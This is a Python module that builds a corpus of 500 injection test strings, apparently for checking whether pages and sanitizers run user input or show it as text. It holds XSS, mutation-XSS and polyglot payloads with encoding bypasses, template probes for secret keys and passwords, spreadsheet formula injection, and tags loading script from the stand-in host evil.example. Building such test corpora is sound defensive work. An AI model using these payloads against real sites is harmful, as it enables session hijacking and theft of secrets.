"""Five hundred texts by which somebody would make a page run what they typed, made by combining what is well known.

Each runs `__hit=N` where it comes to run, and ends with its own mark, by which a page tells that it shows it as text.
"""

import re
from html import entities
from itertools import product
from urllib.parse import quote

MOST = 500
WORKED_OUT = ("{{1234*5678}}", "${1234*5678}", "#{1234*5678}", "<%= 1234*5678 %>", "[[${1234*5678}]]")
PRODUCT = "7006652"
"""What stands on a page that works out one of those."""

MARK = re.compile(r"⟦(\d+)⟧")

_CORES = (
    "<img src=x onerror=HIT>",
    "<svg onload=HIT>",
    "<script>HIT</script>",
    "<iframe srcdoc='<script>parent.HIT</script>'>",
    "<a href=javascript:HIT>x</a>",
    "<details open ontoggle=HIT>",
)
_HANDLERS = (
    *("img src=x onerror", "video src=x onerror", "audio src=x onerror", "body onload", "body onpageshow"),
    *(
        "svg onload",
        "svg onfocusin tabindex=1 autofocus x",
        "input autofocus onfocus",
        "input onblur autofocus",
    ),
    *("select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle", "marquee onstart"),
    *("iframe onload", "object data=x onerror", "embed src=x onload", "button popovertarget=x onclick"),
    *(
        "a tabindex=1 onfocus",
        "form onsubmit",
        "math onmouseover",
        "style onload",
        "link rel=stylesheet onerror",
    ),
    *("video controls oncanplay", "div onpointerenter", "dialog open onclose", "p contenteditable oninput"),
)
_OUTS = ('"', "'", "`", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "</template>", "-->")
_OUTS += ("]]>", "</option></select>", '\\"', "\\'", "&quot;", "%22", "</noscript>", "</button>")
_INSIDE = (
    "<img src=x onerror=HIT>",
    " autofocus onfocus=HIT x=",
    " style=animation-name:x onanimationstart=HIT x=",
    ";HIT;//",
)
_SCHEMES = (
    *("javascript:HIT", "JaVaScRiPt:HIT", " javascript:HIT", "java\tscript:HIT", "java\nscript:HIT"),
    *("&#106;avascript:HIT", "javascript&colon;HIT", "javascript:/*--*/HIT", "javascript://%0aHIT"),
    *("data:text/html,<script>HIT</script>", "data:image/svg+xml,<svg onload=HIT>", "vbscript:HIT"),
    *(
        "//evil.example/x.js",
        "https:evil.example",
        "\\\\evil.example\\x",
        "blob:HIT",
        "view-source:javascript:HIT",
    ),
)
_LINKS = (
    "{}",
    "<a href='{}'>x</a>",
    "[x]({})",
    "<form action='{}'><button>x</button></form>",
    "<base href='{}'>",
)
_TEMPLATES = (
    *WORKED_OUT,
    "{% if 1 %}HIT{% endif %}",
    "{% load i18n %}{% translate 'x' %}",
    "{% include '../../settings.py' %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('HIT')()}}",
    "${alert`x`}",
    "{{'a'.__class__.__mro__}}",
    "{0.__class__.__init__.__globals__}",
    "%(name)s %s %d",
    "{% verbatim %}",
    "{{x|safe}}",
    "<%- HIT %>",
    "{{#with}}HIT{{/with}}",
    "@{HIT}",
    "*{HIT}",
)
_TRICKS = (
    *(
        "\u202e{}",
        "\u2066{}\u2069",
        "\ufeff{}",
        "\u200b{}",
        "{}\u2028{}",
        "{}\u0301",
        "\u00ad{}",
        "\u3000{}",
        "\ue000{}",
    ),
)
_VEILS = (
    "<!--{}-->",
    "<![CDATA[{}]]>",
    "<?xml {}?>",
    "<!DOCTYPE x [<!ENTITY y '{}'>]>",
    "<!--[if IE]>{}<![endif]-->",
)
_VEILS += (
    "<template>{}</template>",
    "<noscript>{}</noscript>",
    "<xmp>{}</xmp>",
    "<title>{}</title>",
    "<svg>{}</svg>",
)
_VEILS += (
    "<math><mtext>{}</mtext></math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<table>{}</table>",
)
_DRAWN = (
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<svg><set onbegin=HIT attributeName=x>",
    "<svg><a xlink:href=javascript:HIT><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=HIT>#x'/>",
    "<svg><image href=x onerror=HIT>",
    "<svg><style><img src=x onerror=HIT></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "<math href=javascript:HIT>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=HIT src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=HIT>'>",
)
_LOOSE = (
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<script src=//evil.example/x.js></script>",
    "<script>HIT",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<script/x>HIT</script >",
    "<SCRIPT>HIT</SCRIPT>",
    "<script type=module>HIT</script>",
    "<img src='//evil.example/?",
    "<object data='data:text/html,<script>HIT</script>'>",
    "<embed src='data:text/html,<script>HIT</script>'>",
    "<iframe src=javascript:HIT>",
    "<plaintext>HIT",
    "<input type=image src=x onerror=HIT>",
    "<isindex action=javascript:HIT type=image>",
    "<body background=javascript:HIT>",
    "<div hx-get=//evil.example/x hx-trigger=load>",
    "<div hx-post=/logout hx-trigger=load>",
    "<div hx-on::load=HIT>",
    "<div hx-on:click=HIT>",
    "<div data-hx-on--load=HIT>",
    "<div hx-vals='js:{x:HIT}' hx-get=/x hx-trigger=load>",
    "<div hx-trigger='load[HIT]' hx-get=/x>",
    "<p data-opens=keys data-keys=a>x</p>",
)
_CELLS = ('HYPERLINK("//evil.example","x")', "cmd|'/C calc'!A0", 'IMPORTXML("//evil.example","//a")', "1+1")
_STARTS = ("=", "+", "-", "@", "\t=", "|", "%0A=", " =")
_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(HIT)//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=HIT//>",
    "\"'--></style></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+HIT//'>",
    "';HIT;//\";HIT;//`;HIT;//--></script><img src=x onerror=HIT>",
    "{{7*7}}${HIT}<%=HIT%>\"><svg/onload=HIT>'",
)


def all_of_them() -> list[str]:
    """Return the texts, each once, in an order in which any few that stand apart are of many families."""
    found: dict[str, None] = {}
    for family in zip(*(_spread(each) for each in _families()), strict=True):
        found.update(dict.fromkeys(each for each in family if each))
    bodies = list(found)[:MOST]
    return [f"{body.replace('HIT', f'__hit={number}')} ⟦{number}⟧" for number, body in enumerate(bodies)]


def packed(texts: list[str], longest: int) -> list[str]:
    """Put as many of the texts side by side as fit into a field."""
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + len(text) + 1 <= longest:
            packs[-1] += f" {text}"
        elif len(text) <= longest:
            packs.append(text)
    return packs


def _families() -> list[list[str]]:
    handlers = [
        f"<{each}={mark}HIT{mark}>".replace(" ", between, 1)
        for each, mark, between in product(_HANDLERS, ("", '"', "'"), (" ", "/"))
    ]
    turned = [
        turn(core)
        for core in _CORES
        for turn in (_decimal, _hexadecimal, _without_end, quote, _twice, _escaped, _wide, _utf7, _named)
    ]
    return [
        handlers,
        [f"{out}{core}" for out, core in product(_OUTS, _INSIDE)],
        [link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)],
        list(_TEMPLATES),
        turned,
        [trick.replace("{}", core) for trick, core in product(_TRICKS, _CORES[:3])],
        [veil.replace("{}", core) for veil, core in product(_VEILS, _CORES[:4])],
        list(_DRAWN),
        list(_LOOSE),
        [f"{start}{cell}" for start, cell in product(_STARTS, _CELLS)],
        list(_POLYGLOTS),
    ]


def _spread(family: list[str], over: int = 170) -> list[str]:
    """Return a family as so many places, evenly filled."""
    places = [""] * over
    for number, each in enumerate(family[:over]):
        places[number * over // min(len(family), over)] = each
    return places


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(each)};" if each in "<>\"'=:" else each for each in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(each):06X};" if each in "<>\"'=:" else each for each in text)


def _without_end(text: str) -> str:
    return "".join(f"&#{ord(each)}" if each in "<>" else each for each in text)


def _twice(text: str) -> str:
    return quote(quote(text))


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(each):04x}" if each in "<>\"'" else each for each in text)


def _wide(text: str) -> str:
    return text.translate({ord(each): ord(each) + 0xFEE0 for each in "<>\"'=/"})


def _utf7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")


def _named(text: str) -> str:
    names = {
        each: f"&{name}"
        for name, each in entities.html5.items()
        if name in ("lt;", "gt;", "equals;", "apos;")
    }
    return "".join(names.get(each, each) for each in text)
